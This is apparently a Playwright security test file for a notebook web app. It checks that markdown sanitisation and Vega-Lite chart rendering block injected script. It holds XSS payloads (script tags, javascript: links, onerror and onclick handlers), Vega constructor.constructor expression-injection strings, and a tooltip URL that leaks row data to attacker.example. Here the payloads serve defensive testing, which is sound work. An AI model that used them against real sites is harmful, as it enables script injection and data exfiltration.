// What a notebook's authors write is shown to everyone who opens it, so markdown and chart specs must not be
// able to run script: markdown is sanitised, Vega runs without eval, and the page forbids eval besides.
import { expect, test } from '@playwright/test';
import { signUpWithNotebook } from './helpers';

const EVIL_MARKDOWN = [
  '# Notes',
  '',
  "<script>window.__pwned = 'script'</script>",
  '',
  "[click me](javascript:window.__pwned='link')",
  '',
  '<img src="/nope.png" onerror="window.__pwned=\'img\'">',
  '',
  '<a href="https://example.com/" onclick="window.__pwned=\'onclick\'">a real link</a>',
  '',
  '| metric | value |',
  '| --- | --- |',
  '| rows | 42 |',
  '',
  '- first',
  '- second',
  '',
  '`inline code`'
].join('\n');

test('markdown renders headings, lists and tables, and nothing in it runs', async ({ page }) => {
  await signUpWithNotebook(page, 'Mallory Markdown');
  // The page forbids eval and script from elsewhere ('wasm-unsafe-eval' only lets WebAssembly compile); inline
  // scripts are admitted by hash (never a nonce: dashboard pages are kept and sent again, page-cache.ts).
  const csp = (await page.request.get(page.url())).headers()['content-security-policy'] ?? '';
  expect(csp).toMatch(/script-src 'self' 'wasm-unsafe-eval'( 'sha256-[^']+')*;/);

  await page.getByRole('button', { name: 'Add Text cell below cell 1' }).click();
  await page.keyboard.insertText(EVIL_MARKDOWN);
  await page.keyboard.press('Escape');
  const text = page.getByTestId('cell').nth(1);
  const md = text.getByTestId('markdown');
  await expect(md.getByRole('heading', { name: 'Notes' })).toBeVisible();
  await expect(md.getByRole('table')).toContainText('rows');
  await expect(md.getByRole('listitem')).toHaveCount(2);
  await expect(md.locator('code')).toHaveText('inline code');

  // Nothing executable survived: no script element, no handlers, no javascript: URL.
  await expect(md.locator('script')).toHaveCount(0);
  await expect(md.locator('[onerror], [onclick]')).toHaveCount(0);
  await expect(md.locator('img')).toHaveCount(1);
  const hrefs = await md.locator('a').evaluateAll((as) => as.map((a) => a.getAttribute('href')));
  expect(hrefs.every((h) => !h || !/^\s*javascript:/i.test(h))).toBe(true);
  await expect(md.getByRole('link', { name: 'a real link' })).toHaveAttribute('rel', /noopener/);
  await md.getByText('click me').click();
  await page.waitForTimeout(300);
  expect(await page.evaluate(() => (window as unknown as { __pwned?: string }).__pwned)).toBeUndefined();

  // Clicking the rendered text edits it again; the source is intact for its author.
  await md.getByRole('heading', { name: 'Notes' }).click();
  await expect(text.locator('.cm-content')).toContainText("<script>window.__pwned = 'script'</script>");
});

test('a Vega spec whose expressions reach for window or Function does not run them', async ({ page }) => {
  await signUpWithNotebook(page, 'Mallory Vega');
  await page.getByTestId('cell').first().locator('.cm-content').click();
  await page.keyboard.type("select 'a' as k, 1 as v union all select 'b', 2");
  await page.getByRole('button', { name: 'Run cell' }).click();
  await expect(page.getByTestId('run-summary')).toContainText('2 rows', { timeout: 60_000 });
  await page.getByRole('button', { name: 'Add Chart cell below cell 1' }).click();
  const chart = page.getByTestId('cell').nth(1);
  await chart.getByLabel('Data', { exact: true }).selectOption('query_1');
  await expect(chart.locator('svg [aria-roledescription="bar"]')).toHaveCount(2, { timeout: 30_000 });
  await chart.getByRole('button', { name: 'Edit spec' }).click();

  const attacks = [
    { params: [{ name: 'p', expr: 'constructor.constructor(\'window.__pwned = "param"\')()' }] },
    { transform: [{ calculate: "window.__pwned = 'calculate'", as: 'x' }] },
    { transform: [{ calculate: "(0).constructor.constructor('window.__pwned = 1')()", as: 'x' }] },
    { title: { text: { expr: "this.window.__pwned = 'title'" } } }
  ];
  for (const attack of attacks) {
    const spec = {
      data: { name: 'source' },
      mark: 'bar',
      encoding: { x: { field: 'k', type: 'nominal' }, y: { field: 'v', type: 'quantitative' } },
      ...attack
    };
    await chart.getByRole('textbox', { name: 'Vega-Lite spec' }).click();
    await page.keyboard.press('Control+a');
    await page.keyboard.insertText(JSON.stringify(spec, null, 2));
    // Refused when checked (Vega-Lite's parser) or when drawn (Vega's interpreter); either way it says so.
    await expect(chart.getByTestId('spec-error').or(chart.getByTestId('chart-error')).first()).toBeVisible();
    expect(await page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned)).toBeUndefined();
    // The last good chart stays.
    await expect(chart.locator('svg [aria-roledescription="bar"]')).toHaveCount(2);
  }

  // Specs that draw fine but try to get around the settings: embed options in usermeta (eval back on, Vega's
  // global functions replaced, the export menu), and a tooltip image whose URL carries the rows away.
  const requests: string[] = [];
  page.on('request', (r) => requests.push(r.url()));
  const sneaky = {
    data: { name: 'source' },
    usermeta: {
      embedOptions: { ast: false, actions: true, expressionFunctions: { format: { fn: 0 } } }
    },
    mark: {
      type: 'bar',
      tooltip: { expr: "{image: 'https://attacker.example/x.png?k=' + datum.k, title: datum.k}" }
    },
    encoding: { x: { field: 'k', type: 'nominal' }, y: { field: 'v', type: 'quantitative' } }
  };
  await chart.getByRole('textbox', { name: 'Vega-Lite spec' }).click();
  await page.keyboard.press('Control+a');
  await page.keyboard.insertText(JSON.stringify(sneaky, null, 2));
  await expect(chart.getByTestId('spec-error')).toHaveCount(0);
  await expect(chart.getByTestId('chart-error')).toHaveCount(0);
  await expect(chart.locator('svg [aria-roledescription="bar"]')).toHaveCount(2);
  await expect(chart.locator('.vega-actions')).toHaveCount(0);
  await chart.locator('svg [aria-roledescription="bar"]').first().hover();
  await expect(page.locator('#vg-tooltip-element')).toContainText('a');
  await expect(page.locator('#vg-tooltip-element img')).toHaveCount(0);
  await page.waitForTimeout(300);
  expect(requests.filter((u) => u.includes('attacker.example'))).toEqual([]);
  // Vega's format() still works for the next chart drawn in this tab.
  await page.keyboard.press('Control+z');
  await page.getByRole('button', { name: 'Add Chart cell below cell 2' }).click();
  const second = page.getByTestId('cell').nth(2);
  await second.getByLabel('Data', { exact: true }).selectOption('query_1');
  await expect(second.locator('svg [aria-roledescription="bar"]')).toHaveCount(2, { timeout: 30_000 });
  await expect(second.getByTestId('chart-error')).toHaveCount(0);
});
